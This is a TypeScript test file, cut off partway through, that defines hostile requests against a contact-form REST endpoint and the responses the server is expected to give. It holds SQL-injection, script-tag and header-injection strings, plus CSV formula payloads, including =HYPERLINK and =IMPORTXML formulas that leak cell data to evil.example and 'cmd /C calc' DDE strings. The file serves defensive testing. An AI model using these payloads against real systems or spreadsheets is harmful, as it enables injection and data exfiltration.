import { LOCAL_ANON_KEY, LOCAL_SERVICE_ROLE_KEY } from "#src/core/settings/local-dev-keys.ts";
import { PHONE_PATTERN, TRIM_CHARACTERS, type ContactRow } from "#src/core/contact-schema.ts";
import { CONTACT } from "#tests/contract/harness.ts";
import { head } from "./raw-http.ts";

/*
 * The hostile-request corpus: every case has a name, one request, and the one answer the server
 * must give. Cases are generated from tables (field × value, prefix × target, …) rather than
 * written out one by one. Anything a case stores is spelled out as the exact rows, so the runner
 * can prove that nothing else, and nothing partial, was written.
 *
 * Where PostgREST semantics store something odd-looking, the case says so: PostgREST feeds the
 * body to `json_populate_recordset`, so a JSON number, boolean, object or array sent for a text
 * column is stored as its JSON text, exactly as written (`1.50` stays `1.50`).
 */

export const TABLE_PATH = "/rest/v1/contact_submissions";

/** A row as the service key reads it back (the columns a visitor writes, but its locale). */
export type StoredRow = Omit<ContactRow, "locale">;

export type HostileRequest =
  | { via: "fetch"; method: string; path: string; headers: Record<string, string>; body?: Buffer }
  /** Bytes written to a bare socket as they are; `end` half-closes after them. */
  | { via: "raw"; bytes: Buffer; end?: boolean };

export type Outcome =
  /** A PostgREST error body {code, details, hint, message} with this status and code. */
  | { kind: "refused"; status: number; code: string }
  /** The API gateway's 401 (Supabase's Kong answers before PostgREST): {message, hint}. */
  | { kind: "gateway"; message: string }
  /** Refused by Node's HTTP parser or the Hono adapter before the app runs: no JSON body. */
  | { kind: "http"; status: number }
  /** The connection is closed without an answer (Node's default for CONNECT). */
  | { kind: "closed" }
  /** 201, and exactly these rows (matched by e-mail) are stored. */
  | { kind: "stored"; rows: StoredRow[] }
  /** A successful REST read or preflight: this status and, when given, this exact body. */
  | { kind: "read"; status: number; body?: string }
  /** The static site's own answer: its 404 page or its plain-text 405. */
  | { kind: "site"; status: 200 | 404 | 405; body: string };

export interface HostileCase {
  name: string;
  request: HostileRequest;
  expect: Outcome;
}

// ── Building blocks ───────────────────────────────────────────────────────────────────────────

let serial = 0;
/** A distinct valid e-mail per case, so a stored row can be traced to the case that wrote it. */
const uniqueEmail = () => `fuzz-${++serial}@example.com`;

type Lead = Record<string, unknown>;
/** A valid submission with a unique e-mail; `overrides` replace or add keys. */
const lead = (overrides: Lead = {}): Lead => ({ ...CONTACT, email: uniqueEmail(), ...overrides });

/** The row a valid `lead` stores, with `overrides` for the columns that differ. */
const row = (sent: Lead, overrides: Partial<StoredRow> = {}): StoredRow => ({
  name: String(sent.name),
  email: String(sent.email),
  phone: String(sent.phone),
  clinic_name: String(sent.clinic_name),
  message: sent.message === undefined ? null : String(sent.message),
  whatsapp_opt_in: sent.whatsapp_opt_in === true,
  ...overrides,
});

/** JSON text of `sent`, with `rawValues` spliced in verbatim (numbers JavaScript cannot hold, …). */
const jsonWith = (sent: Lead, rawValues: Record<string, string> = {}): string =>
  `{${Object.entries({ ...sent, ...rawValues })
    .map(([key, value]) => `${JSON.stringify(key)}:${key in rawValues ? value : JSON.stringify(value)}`)
    .join(",")}}`;

const ANON = { apikey: LOCAL_ANON_KEY };
const JSON_TYPE = { "Content-Type": "application/json" };

const fetchRequest = (
  method: string,
  path: string,
  headers: Record<string, string>,
  body?: string | Buffer,
): HostileRequest => ({
  via: "fetch",
  method,
  path,
  headers,
  body: body === undefined ? undefined : Buffer.from(body),
});

/** POST to the table as a visitor (anon key, JSON). */
const insert = (body: string | Buffer, headers: Record<string, string> = {}, query = ""): HostileRequest =>
  fetchRequest("POST", `${TABLE_PATH}${query}`, { ...ANON, ...JSON_TYPE, ...headers }, body);

const raw = (bytes: string | Buffer, end = false): HostileRequest => ({
  via: "raw",
  bytes: typeof bytes === "string" ? Buffer.from(bytes, "latin1") : bytes,
  end,
});

/** A raw request with a body; Content-Length is added unless a header line already sets framing. */
const rawWithBody = (requestLine: string, lines: string[], body: Buffer | string, end = false) => {
  const bytes = typeof body === "string" ? Buffer.from(body, "utf8") : body;
  const framed = lines.some((line) => /^(content-length|transfer-encoding):/i.test(line));
  return raw(
    Buffer.concat([
      Buffer.from(
        head(requestLine, framed ? lines : [...lines, `Content-Length: ${bytes.length}`]),
        "latin1",
      ),
      bytes,
    ]),
    end,
  );
};

const refused = (status: number, code: string): Outcome => ({ kind: "refused", status, code });
const stored = (...rows: StoredRow[]): Outcome => ({ kind: "stored", rows });
const http = (status: number): Outcome => ({ kind: "http", status });

// ── Malformed and truncated JSON ──────────────────────────────────────────────────────────────

const MALFORMED_JSON: Array<[string, string]> = [
  ["an empty body", ""],
  ["only whitespace", " \t\r\n "],
  ["a lone opening brace", "{"],
  ["a lone closing brace", "}"],
  ["a lone opening bracket", "["],
  ["single-quoted strings", "{'name':'Ada'}"],
  ["unquoted keys", '{name:"Ada"}'],
  ["a trailing comma in an object", '{"name":"Ada",}'],
  ["a trailing comma in an array", '[{"name":"Ada"},]'],
  ["a missing value", '{"name":}'],
  ["a missing colon", '{"name" "Ada"}'],
  ["a key without a value", '{"name"}'],
  ["NaN", '{"name":NaN}'],
  ["Infinity", '{"phone":Infinity}'],
  ["undefined", '{"name":undefined}'],
  ["a JavaScript comment", '/* hi */{"name":"Ada"}'],
  ["two concatenated objects", '{"name":"Ada"}{"name":"Bob"}'],
  ["garbage after the object", '{"name":"Ada"}garbage'],
  ["an invalid escape", '{"name":"\\x41"}'],
  ["a short unicode escape", '{"name":"\\u12"}'],
  ["a raw newline inside a string", '{"name":"Ada\nLovelace"}'],
  ["a raw tab inside a string", '{"name":"Ada\tLovelace"}'],
  ["a number with a leading zero", '{"phone":0123}'],
  ["a lone minus sign", '{"phone":-}'],
  ["an exponent without digits", '{"phone":1e}'],
  ["a misspelt literal", '{"message":tru}'],
  ["a bare string", '"Ada Lovelace"'],
  ["a bare number", "42"],
  ["a bare true", "true"],
  ["a bare null", "null"],
  ["an XML document", "<contact><name>Ada</name></contact>"],
  ["a form-encoded body sent as JSON", "name=Ada&email=ada%40example.com"],
  ["a hex literal", '{"phone":0x1F}'],
  ["a plus-signed number", '{"phone":+1}'],
];

const malformed: HostileCase[] = MALFORMED_JSON.map(([what, body]) => ({
  name: `malformed JSON: ${what}`,
  request: insert(body),
  expect: refused(400, "PGRST102"),
}));

// A valid body cut short at several points: never valid JSON, never stored.
const truncated: HostileCase[] = (() => {
  const text = JSON.stringify(lead());
  return [1, 2, 9, 17, Math.floor(text.length / 2), text.length - 2, text.length - 1].map((length) => ({
    name: `truncated JSON: the first ${length} of ${text.length} characters`,
    request: insert(text.slice(0, length)),
    expect: refused(400, "PGRST102"),
  }));
})();

// Nesting deep enough to overflow a recursive serialiser (found by this corpus: it was a 500).
const deep: HostileCase[] = [
  ["100 nested arrays as the whole body", "[".repeat(100) + "]".repeat(100)],
  ["5 000 nested arrays as a name", jsonWith(lead(), { name: "[".repeat(5000) + "]".repeat(5000) })],
  ["30 000 nested arrays as a name", jsonWith(lead(), { name: "[".repeat(30_000) + "]".repeat(30_000) })],
  [
    "5 000 nested objects as a message",
    jsonWith(lead(), { message: '{"a":'.repeat(5000) + "1" + "}".repeat(5000) }),
  ],
].map(([what, body]) => ({
  name: `deeply nested JSON: ${what}`,
  request: insert(body ?? ""),
  expect: refused(400, "PGRST102"),
}));

// ── Wrong types: every column × every JSON type ───────────────────────────────────────────────

/** JSON values of the wrong type, and the text PostgreSQL stores for them (null: SQL null). */
const WRONG_TYPES: Array<{ what: string; json: string; text: string | null }> = [
  { what: "an integer", json: "12345", text: "12345" },
  { what: "a negative number", json: "-2", text: "-2" },
  { what: "a decimal with a trailing zero", json: "1.50", text: "1.50" },
  { what: "a number in exponent form", json: "1e400", text: "1e400" },
  { what: "an integer past 2^53", json: "12345678901234567890", text: "12345678901234567890" },
  { what: "true", json: "true", text: "true" },
  { what: "false", json: "false", text: "false" },
  { what: "null", json: "null", text: null },
  { what: "an empty object", json: "{}", text: "{}" },
  { what: "a nested object", json: '{"a":{"b":[1,"x"]}}', text: '{"a":{"b":[1,"x"]}}' },
  { what: "an empty array", json: "[]", text: "[]" },
  { what: "an array", json: '[1,"two",null]', text: '[1,"two",null]' },
  { what: "an empty string", json: '""', text: "" },
  { what: "a string of spaces and line breaks", json: '" \\t\\r\\n "', text: "" },
];

const CONTACT_COLUMNS = ["name", "email", "phone", "clinic_name", "message"] as const;

/*
 * The rule, per PostgREST + the table's constraints: every column is text, so the JSON text is
 * stored as written (trimmed); an empty or null message is stored as null; null or empty in a
 * required column is refused (23502 / 23514); none of these is an e-mail address (23514), and
 * only a long enough number is a phone number (23514; decision 094).
 */
const phoneShape = new RegExp(PHONE_PATTERN);
const wrongTypes: HostileCase[] = CONTACT_COLUMNS.flatMap((column) =>
  WRONG_TYPES.map(({ what, json, text }) => {
    const sent = lead();
    let expect: Outcome;
    if (column === "message") expect = stored(row(sent, { message: text === "" ? null : text }));
    else if (text === null) expect = refused(400, "23502");
    else if (column === "email" || text === "") expect = refused(400, "23514");
    else if (column === "phone" && !phoneShape.test(text)) expect = refused(400, "23514");
    else expect = stored(row(sent, { [column]: text }));
    return {
      name: `wrong type: ${column} is ${what}`,
      request: insert(jsonWith(sent, { [column]: json })),
      expect,
    };
  }),
);

// ── Missing, wrong and swapped keys ───────────────────────────────────────────────────────────

const missing: HostileCase[] = CONTACT_COLUMNS.map((column) => {
  const sent = Object.fromEntries(Object.entries(lead()).filter(([key]) => key !== column));
  return {
    name: `missing key: ${column}`,
    request: insert(JSON.stringify(sent)),
    // The message is optional; every other column is `not null`.
    expect: column === "message" ? stored(row(sent)) : refused(400, "23502"),
  };
});

const UNKNOWN_KEYS: Array<[string, string]> = [
  ["the form's camelCase clinicName", "clinicName"],
  ["a capitalised Name", "Name"],
  ["an upper-case EMAIL", "EMAIL"],
  ["e-mail with a hyphen", "e-mail"],
  ["a leading space", " name"],
  ["a trailing space", "name "],
  ["a NUL inside the key", "name\u0000"],
  ["a Cyrillic homoglyph", "n\u0430me"],
  ["an empty key", ""],
  ["a numeric key", "1"],
  ["__proto__", "__proto__"],
  ["constructor", "constructor"],
  ["prototype", "prototype"],
  ["toString", "toString"],
  ["hasOwnProperty", "hasOwnProperty"],
  ["valueOf", "valueOf"],
  ["__defineGetter__", "__defineGetter__"],
  ["a key of 50 000 characters", "k".repeat(50_000)],
  ["a SQL injection in the key", 'name") values (1); drop table contact_submissions; --'],
  ["a lone surrogate", "\ud800"],
];

const unknownKeys: HostileCase[] = UNKNOWN_KEYS.map(([what, key]) => ({
  name: `unknown key: ${what}`,
  // jsonWith writes the key as JSON text, so `__proto__` arrives as an own key, as an attacker sends it.
  request: insert(jsonWith(lead(), { [key]: '"x"' })),
  expect: refused(400, "PGRST204"),
}));

const keyCases: HostileCase[] = [
  // Prototype keys inside a value are just text to the database, and must pollute nothing.
  (() => {
    const sent = lead();
    const value = '{"__proto__":{"polluted":true}}';
    return {
      name: "prototype key: __proto__ inside a value (stored as its JSON text)",
      request: insert(jsonWith(sent, { name: value })),
      expect: stored(row(sent, { name: value })),
    };
  })(),
  (() => {
    const sent = lead();
    const value = '{"constructor":{"prototype":{"polluted":true}}}';
    return {
      name: "prototype key: constructor.prototype inside a value (stored as its JSON text)",
      request: insert(jsonWith(sent, { message: value })),
      expect: stored(row(sent, { message: value })),
    };
  })(),
  {
    name: "wrong key: the identity column id",
    request: insert(JSON.stringify(lead({ id: 1 }))),
    expect: refused(400, "428C9"),
  },
  {
    name: "wrong key: id set to null",
    request: insert(JSON.stringify(lead({ id: null }))),
    expect: refused(400, "428C9"),
  },
  {
    // anon holds insert on the five visitor columns only.
    name: "wrong key: created_at chosen by the visitor",
    request: insert(JSON.stringify(lead({ created_at: "1999-12-31T23:59:59Z" }))),
    expect: refused(401, "42501"),
  },
  {
    name: "swapped values: the name in email and the e-mail in name",
    request: insert(JSON.stringify(lead({ name: "ada@example.com", email: "Ada Lovelace" }))),
    expect: refused(400, "23514"),
  },
  (() => {
    // The message is free text, but a sentence is no phone number (decision 094).
    const sent = lead({ phone: CONTACT.message, message: CONTACT.phone });
    return {
      name: "swapped values: phone and message (a sentence is refused as the phone)",
      request: insert(JSON.stringify(sent)),
      expect: refused(400, "23514"),
    };
  })(),
  (() => {
    const sent = lead();
    return {
      name: "duplicate key: the last name wins, as in PostgreSQL's json",
      request: insert(`{"name":"First",${JSON.stringify(sent).slice(1)}`),
      expect: stored(row(sent)),
    };
  })(),
  (() => {
    const sent = lead({ evil: "ignored" });
    return {
      name: "columns: ?columns= lists them, other keys are ignored as PostgREST does",
      request: insert(JSON.stringify(sent), {}, "?columns=name,email,phone,clinic_name,message"),
      expect: stored(row(sent)),
    };
  })(),
  (() => {
    const sent = lead();
    return {
      name: "columns: ?columns= without message, so the message sent is not stored",
      request: insert(JSON.stringify(sent), {}, "?columns=name,email,phone,clinic_name"),
      expect: stored(row(sent, { message: null })),
    };
  })(),
  {
    name: "columns: ?columns=__proto__",
    request: insert(JSON.stringify(lead()), {}, "?columns=__proto__"),
    expect: refused(400, "PGRST204"),
  },
  {
    name: "columns: ?columns= naming the identity column",
    request: insert(JSON.stringify(lead()), {}, "?columns=id,name,email,phone,clinic_name"),
    expect: refused(400, "428C9"),
  },
  {
    name: "columns: ?columns= empty, so every column takes its default and name may not be null",
    request: insert(JSON.stringify(lead()), {}, "?columns="),
    expect: refused(400, "23502"),
  },
  {
    name: "columns: ?columns= with a SQL injection",
    request: insert(JSON.stringify(lead()), {}, `?columns=${encodeURIComponent('name");drop table x;--')}`),
    expect: refused(400, "PGRST204"),
  },
];

// ── Arrays: empty, capped, mixed, huge ────────────────────────────────────────────────────────

const arrays: HostileCase[] = [
  { name: "array: empty (201, nothing to store)", request: insert("[]"), expect: stored() },
  (() => {
    const sent = Array.from({ length: 5 }, () => lead());
    return {
      name: "array: five rows, the anon maximum",
      request: insert(JSON.stringify(sent)),
      expect: stored(...sent.map((item) => row(item))),
    };
  })(),
  {
    name: "array: six rows, one past the anon maximum",
    request: insert(JSON.stringify(Array.from({ length: 6 }, () => lead()))),
    expect: refused(413, "PGRST413"),
  },
  {
    name: "array: three valid rows and one too long (atomic: none stored)",
    request: insert(JSON.stringify([lead(), lead(), lead(), lead({ name: "x".repeat(101) })])),
    expect: refused(400, "23514"),
  },
  {
    name: "array: a valid row and a NUL (atomic: none stored)",
    request: insert(JSON.stringify([lead(), lead({ message: "a\u0000b" })])),
    expect: refused(400, "22P05"),
  },
  {
    name: "array: a valid row and an empty object",
    request: insert(JSON.stringify([lead(), {}])),
    expect: refused(400, "PGRST102"),
  },
  ...(
    [
      ["null", "null"],
      ["a number", "7"],
      ["a string", '"row"'],
      ["a nested array", "[]"],
    ] as const
  ).map(([what, item]) => ({
    name: `array: a valid row and ${what}`,
    request: insert(`[${JSON.stringify(lead())},${item}]`),
    expect: refused(400, "PGRST102"),
  })),
  {
    name: "array: a row wrapped in a second array",
    request: insert(JSON.stringify([[lead()]])),
    expect: refused(400, "PGRST102"),
  },
  (() => {
    const first = lead();
    const second = lead();
    const reordered = Object.fromEntries(Object.entries(second).reverse());
    return {
      name: "array: the same keys in another order",
      request: insert(JSON.stringify([first, reordered])),
      expect: stored(row(first), row(second)),
    };
  })(),
  (() => {
    const first = lead({ message: undefined });
    const second = lead();
    return {
      name: "array: different keys with ?columns= (supabase-js's form): missing keys are null",
      request: insert(JSON.stringify([first, second]), {}, "?columns=name,email,phone,clinic_name,message"),
      expect: stored(row(first, { message: null }), row(second)),
    };
  })(),
  {
    name: "huge array: 10 000 numbers",
    request: insert(`[${Array(10_000).fill("1").join(",")}]`),
    expect: refused(400, "PGRST102"),
  },
  {
    name: "huge array: 20 000 empty objects (over 64 KiB)",
    request: insert(`[${Array(20_000).fill("{}").join(",")}]`),
    expect: refused(413, "PGRST413"),
  },
  {
    name: "huge array: 100 empty objects (under 64 KiB, over the row cap)",
    request: insert(`[${Array(100).fill("{}").join(",")}]`),
    expect: refused(413, "PGRST413"),
  },
  {
    name: "huge array: 1 000 copies of one row",
    request: insert(JSON.stringify(Array(1000).fill(lead()))),
    expect: refused(413, "PGRST413"),
  },
];

// ── Unicode edge cases ────────────────────────────────────────────────────────────────────────

const emoji = "\u{1F600}"; // 😀, four bytes in UTF-8, two UTF-16 units, one character to PostgreSQL
const family = "\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}"; // 7 code points

/** Values sent in one column, and what is stored (a string), or the refusal. */
const UNICODE: Array<{
  what: string;
  column: (typeof CONTACT_COLUMNS)[number];
  value: string;
  /** The stored text (null: stored as SQL null), or the refusal. */
  result: string | null | Outcome;
}> = [
  { what: "a NUL in the name", column: "name", value: "Ada\u0000Lovelace", result: refused(400, "22P05") },
  { what: "a NUL in the message", column: "message", value: "\u0000", result: refused(400, "22P05") },
  { what: "a lone high surrogate", column: "name", value: "\ud800", result: refused(400, "22P02") },
  { what: "a lone low surrogate", column: "clinic_name", value: "x\udc00y", result: refused(400, "22P02") },
  {
    what: "a reversed surrogate pair",
    column: "message",
    value: "\udc00\ud800",
    result: refused(400, "22P02"),
  },
  { what: "a high surrogate at the end", column: "phone", value: "123\ud83d", result: refused(400, "22P02") },
  { what: "a surrogate pair (a real emoji)", column: "name", value: emoji, result: emoji },
  { what: "the highest code point U+10FFFF", column: "name", value: "\u{10FFFF}", result: "\u{10FFFF}" },
  { what: "the noncharacter U+FFFF", column: "clinic_name", value: "\uffff", result: "\uffff" },
  { what: "a private-use character", column: "clinic_name", value: "\ue000", result: "\ue000" },
  { what: "a BOM before the name (trimmed)", column: "name", value: "\ufeffAda", result: "Ada" },
  {
    what: "no-break spaces around the name (trimmed)",
    column: "name",
    value: "\u00a0Ada\u00a0",
    result: "Ada",
  },
  {
    what: "ideographic spaces around the clinic (trimmed)",
    column: "clinic_name",
    value: "\u3000Clinic\u3000",
    result: "Clinic",
  },
  {
    what: "a name of nothing but trim characters",
    column: "name",
    value: TRIM_CHARACTERS,
    result: refused(400, "23514"),
  },
  {
    what: "a message of nothing but trim characters (null)",
    column: "message",
    value: TRIM_CHARACTERS,
    result: null,
  },
  // String#trim keeps a zero-width space, but it shows nothing: the form and the database both
  // refuse a name made only of it, as an empty one.
  {
    what: "a zero-width space as the whole name",
    column: "name",
    value: "\u200b",
    result: refused(400, "23514"),
  },
  {
    what: "a zero-width space inside a name",
    column: "name",
    value: "Ana\u200bMaria",
    result: "Ana\u200bMaria",
  },
  { what: "a right-to-left override", column: "name", value: "\u202eevil.exe", result: "\u202eevil.exe" },
  { what: "bidi isolates", column: "message", value: "\u2066abc\u2069", result: "\u2066abc\u2069" },
  { what: "a line separator inside the message", column: "message", value: "a\u2028b", result: "a\u2028b" },
  {
    what: "100 characters of e plus combining accents",
    column: "name",
    value: "e" + "\u0301".repeat(99),
    result: "e" + "\u0301".repeat(99),
  },
  {
    what: "101 characters of e plus combining accents",
    column: "name",
    value: "e" + "\u0301".repeat(100),
    result: refused(400, "23514"),
  },
  {
    what: "100 four-byte emoji as the name",
    column: "name",
    value: emoji.repeat(100),
    result: emoji.repeat(100),
  },
  {
    what: "101 four-byte emoji as the name",
    column: "name",
    value: emoji.repeat(101),
    result: refused(400, "23514"),
  },
  {
    // Within the length, but no phone number (decision 094).
    what: "20 four-byte emoji as the phone",
    column: "phone",
    value: emoji.repeat(20),
    result: refused(400, "23514"),
  },
  {
    what: "21 four-byte emoji as the phone",
    column: "phone",
    value: emoji.repeat(21),
    result: refused(400, "23514"),
  },
  {
    what: "1 000 four-byte emoji as the message",
    column: "message",
    value: emoji.repeat(1000),
    result: emoji.repeat(1000),
  },
  {
    what: "1 001 four-byte emoji as the message",
    column: "message",
    value: emoji.repeat(1001),
    result: refused(400, "23514"),
  },
  {
    what: "14 ZWJ family emoji (98 code points)",
    column: "clinic_name",
    value: family.repeat(14),
    result: family.repeat(14),
  },
  {
    what: "15 ZWJ family emoji (105 code points)",
    column: "clinic_name",
    value: family.repeat(15),
    result: refused(400, "23514"),
  },
  {
    what: "an emoji in the e-mail",
    column: "email",
    value: `${emoji}@example.com`,
    result: refused(400, "23514"),
  },
  {
    what: "an internationalised domain in the e-mail",
    column: "email",
    value: "ada@ex\u00e4mple.com",
    result: refused(400, "23514"),
  },
  {
    what: "a full-width at sign in the e-mail",
    column: "email",
    value: "ada\uff20example.com",
    result: refused(400, "23514"),
  },
  {
    what: "a right-to-left override in the e-mail",
    column: "email",
    value: "ada@\u202emoc.elpmaxe",
    result: refused(400, "23514"),
  },
  {
    // Name, phone and clinic are one line: no control characters inside.
    what: "a terminal escape sequence in the name",
    column: "name",
    value: "\u001b[31mRed\u001b[0m",
    result: refused(400, "23514"),
  },
  {
    // Stored without its control characters: the form and the database remove them.
    what: "a terminal escape sequence in the message",
    column: "message",
    value: "\u001b[31mRed\u001b[0m",
    result: "[31mRed[0m",
  },
  {
    what: "a line break inside the name",
    column: "name",
    value: "Eve\nEmail: attacker@evil.example",
    result: refused(400, "23514"),
  },
  {
    what: "a line break inside the clinic name",
    column: "clinic_name",
    value: "Clinic\r\nX-Injected: yes",
    result: refused(400, "23514"),
  },
  {
    what: "a C1 control (CSI) inside the phone",
    column: "phone",
    value: "555\u009b0100",
    result: refused(400, "23514"),
  },
  {
    what: "a paragraph separator inside the name",
    column: "name",
    value: "Eve\u2029Bcc: x",
    result: refused(400, "23514"),
  },
  {
    what: "a header injection",
    column: "message",
    value: "hi\r\nBcc: victim@example.com",
    result: "hi\r\nBcc: victim@example.com",
  },
  {
    what: "a script tag",
    column: "name",
    value: "<script>alert(1)</script>",
    result: "<script>alert(1)</script>",
  },
  {
    what: "a SQL injection",
    column: "clinic_name",
    value: "'); drop table contact_submissions; --",
    result: "'); drop table contact_submissions; --",
  },
];

const unicode: HostileCase[] = UNICODE.map(({ what, column, value, result }) => {
  const sent = lead({ [column]: value });
  return {
    name: `unicode: ${what}`,
    request: insert(JSON.stringify(sent)),
    expect: typeof result === "string" || result === null ? stored(row(sent, { [column]: result })) : result,
  };
});

/** Bodies that are not valid UTF-8 (or not UTF-8 at all): refused before JSON parsing. */
const BAD_BYTES: Array<[string, number[]]> = [
  ["an invalid continuation byte", [0xc3, 0x28]],
  ["a lone 0xFF byte", [0xff]],
  ["an overlong encoding of '.'", [0xc0, 0xae]],
  ["an overlong encoding of '/'", [0xe0, 0x80, 0xaf]],
  ["a UTF-8-encoded surrogate (CESU-8)", [0xed, 0xa0, 0x80]],
  ["a code point past U+10FFFF", [0xf4, 0x90, 0x80, 0x80]],
  ["a five-byte sequence", [0xf8, 0x88, 0x80, 0x80, 0x80]],
  ["a sequence cut short", [0xe2, 0x82]],
];

const badBytes: HostileCase[] = [
  ...BAD_BYTES.map(([what, bytes]) => {
    const [before, after] = JSON.stringify(lead({ name: "@@" })).split("@@");
    return {
      name: `invalid UTF-8: ${what} in the name`,
      request: insert(
        Buffer.concat([Buffer.from(before ?? ""), Buffer.from(bytes), Buffer.from(after ?? "")]),
      ),
      expect: refused(400, "PGRST102"),
    };
  }),
  {
    name: "encoding: the body in UTF-16LE with its BOM",
    request: insert(
      Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(JSON.stringify(lead()), "utf16le")]),
    ),
    expect: refused(400, "PGRST102"),
  },
  {
    name: "encoding: a raw NUL byte inside a string",
    request: insert(JSON.stringify(lead({ name: "@@" })).replace("@@", "\u0000")),
    expect: refused(400, "PGRST102"),
  },
  {
    name: "encoding: a raw NUL byte between tokens",
    request: insert(`{\u0000${JSON.stringify(lead()).slice(1)}`),
    expect: refused(400, "PGRST102"),
  },
  (() => {
    // RFC 8259 §8.1 lets a parser ignore one byte order mark; TextDecoder does.
    const sent = lead();
    return {
      name: "encoding: a UTF-8 BOM before the body is ignored",
      request: insert(`\ufeff${JSON.stringify(sent)}`),
      expect: stored(row(sent)),
    };
  })(),
  {
    name: "encoding: two UTF-8 BOMs before the body",
    request: insert(`\ufeff\ufeff${JSON.stringify(lead())}`),
    expect: refused(400, "PGRST102"),
  },
];

// ── Very long strings and bodies ──────────────────────────────────────────────────────────────

const emailOf = (length: number) => `${"a".repeat(length - "@example.com".length)}@example.com`;

const LENGTHS: Array<{ column: (typeof CONTACT_COLUMNS)[number]; value: string; ok: boolean }> = [
  { column: "name", value: "n".repeat(100), ok: true },
  { column: "name", value: "n".repeat(101), ok: false },
  { column: "name", value: "n".repeat(60_000), ok: false },
  { column: "clinic_name", value: "c".repeat(100), ok: true },
  { column: "clinic_name", value: "c".repeat(101), ok: false },
  { column: "phone", value: "5".repeat(20), ok: true },
  { column: "phone", value: "5".repeat(21), ok: false },
  { column: "message", value: "m".repeat(1000), ok: true },
  { column: "message", value: "m".repeat(1001), ok: false },
  { column: "email", value: emailOf(255), ok: true },
  { column: "email", value: emailOf(256), ok: false },
  { column: "email", value: `ada@${"d".repeat(64)}.com`, ok: false }, // a DNS label has at most 63
];

const lengths: HostileCase[] = LENGTHS.map(({ column, value, ok }) => {
  const sent = lead({ [column]: value });
  return {
    name: `long string: ${column} of ${value.length} characters`,
    request: insert(JSON.stringify(sent)),
    expect: ok ? stored(row(sent)) : refused(400, "23514"),
  };
});

const bodyOfBytes = (bytes: number) => {
  const base = JSON.stringify(lead({ message: "" }));
  return base.replace('"message":""', `"message":"${"m".repeat(bytes - base.length)}"`);
};

const bodies: HostileCase[] = [
  {
    name: "body size: exactly 64 KiB (read, then refused by the message check)",
    request: insert(bodyOfBytes(64 * 1024)),
    expect: refused(400, "23514"),
  },
  {
    name: "body size: 64 KiB + 1 byte",
    request: insert(bodyOfBytes(64 * 1024 + 1)),
    expect: refused(413, "PGRST413"),
  },
  {
    name: "body size: 1 MiB",
    request: insert(bodyOfBytes(1024 * 1024)),
    expect: refused(413, "PGRST413"),
  },
  {
    name: "body size: Content-Length of a gigabyte and no body (refused from the header alone)",
    request: raw(
      head(`POST ${TABLE_PATH} HTTP/1.1`, [
        `apikey: ${LOCAL_ANON_KEY}`,
        "Content-Type: application/json",
        "Content-Length: 1000000000",
      ]),
    ),
    expect: refused(413, "PGRST413"),
  },
  {
    name: "body size: 70 000 chunked bytes without Content-Length (cut off while streaming)",
    request: raw(
      head(`POST ${TABLE_PATH} HTTP/1.1`, [
        `apikey: ${LOCAL_ANON_KEY}`,
        "Content-Type: application/json",
        "Transfer-Encoding: chunked",
      ]) + `${(70_000).toString(16)}\r\n${"a".repeat(70_000)}\r\n0\r\n\r\n`,
    ),
    expect: refused(413, "PGRST413"),
  },
];

// ── CSV injection: stored verbatim (the export neutralises it; see the test) ──────────────────

export const CSV_PAYLOADS = {
  name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  phone: "-20 7946 0000",
  clinic_name: "+cmd|' /C calc'!A0",
  message: "@SUM(1+1)*cmd|' /C calc'!A0",
  email: "=1+1@example.com",
};

const csv: HostileCase[] = [
  (() => {
    const sent = lead({
      name: CSV_PAYLOADS.name,
      phone: CSV_PAYLOADS.phone,
      clinic_name: CSV_PAYLOADS.clinic_name,
      message: CSV_PAYLOADS.message,
    });
    return {
      name: "CSV injection: formulas in every free-text column",
      request: insert(JSON.stringify(sent)),
      expect: stored(row(sent)),
    };
  })(),
  (() => {
    // The e-mail pattern allows = and + in the local part, so a formula can arrive here too.
    const sent = lead({ email: CSV_PAYLOADS.email });
    return {
      name: "CSV injection: a formula that is a valid e-mail address",
      request: insert(JSON.stringify(sent)),
      expect: stored(row(sent)),
    };
  })(),
  (() => {
    // The database trims the tab, leaving a formula; the export still neutralises it.
    const sent = lead({ name: "\t=1+1", clinic_name: "\r@SUM(A1)" });
    return {
      name: "CSV injection: formulas behind a tab and a carriage return (trimmed, stored)",
      request: insert(JSON.stringify(sent)),
      expect: stored(row(sent, { name: "=1+1", clinic_name: "@SUM(A1)" })),
    };
  })(),
  (() => {
    const sent = lead({ message: '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")' });
    return {
      name: "CSV injection: a data-exfiltration formula",
      request: insert(JSON.stringify(sent)),
      expect: stored(row(sent)),
    };
  })(),
  (() => {
    const sent = lead({ message: 'Ada "the Countess", Lovelace\r\n=1+1' });
    return {
      name: "CSV injection: quotes, a comma and a line break before a formula",
      request: insert(JSON.stringify(sent)),
      expect: stored(row(sent)),
    };
  })(),
];

// ── Content types ─────────────────────────────────────────────────────────────────────────────

const WRONG_TYPES_HEADER = [
  "text/plain",
  "text/html",
  "text/csv",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=x",
  "application/xml",
  "application/octet-stream",
  "application/javascript",
  "application/json-patch+json",
  "application/jsonx",
  "json",
  "application/json, text/plain",
];

const contentTypes: HostileCase[] = [
  ...WRONG_TYPES_HEADER.map((type) => ({
    name: `content type: ${type}`,
    request: insert(JSON.stringify(lead()), { "Content-Type": type }),
    expect: refused(415, "PGRST107"),
  })),
  {
    // PostgREST assumes JSON; for the anon key the server does not, so a browser must preflight
    // (navigator.sendBeacon cannot), so other sites' pages cannot post leads.
    name: "content type: none at all, with the anon key",
    request: fetchRequest("POST", TABLE_PATH, { ...ANON }, JSON.stringify(lead())),
    expect: refused(415, "PGRST107"),
  },
  ...[
    ["upper case APPLICATION/JSON", "APPLICATION/JSON"],
    ["JSON with a charset parameter", "application/json; charset=utf-8"],
    ["PostgREST's single-object type", "application/vnd.pgrst.object+json"],
  ].map(([what, type]) => {
    const sent = lead();
    const headers: Record<string, string> = { ...ANON, "Content-Type": String(type) };
    return {
      name: `content type: ${what}`,
      request: fetchRequest("POST", TABLE_PATH, headers, JSON.stringify(sent)),
      expect: stored(row(sent)),
    };
  }),
];

// ── Methods ───────────────────────────────────────────────────────────────────────────────────

const restRaw = (method: string, lines: string[] = []) =>
  raw(head(`${method} ${TABLE_PATH} HTTP/1.1`, [`apikey: ${LOCAL_ANON_KEY}`, ...lines]));

const methods: HostileCase[] = [
  {
    name: "method: PUT on the table",
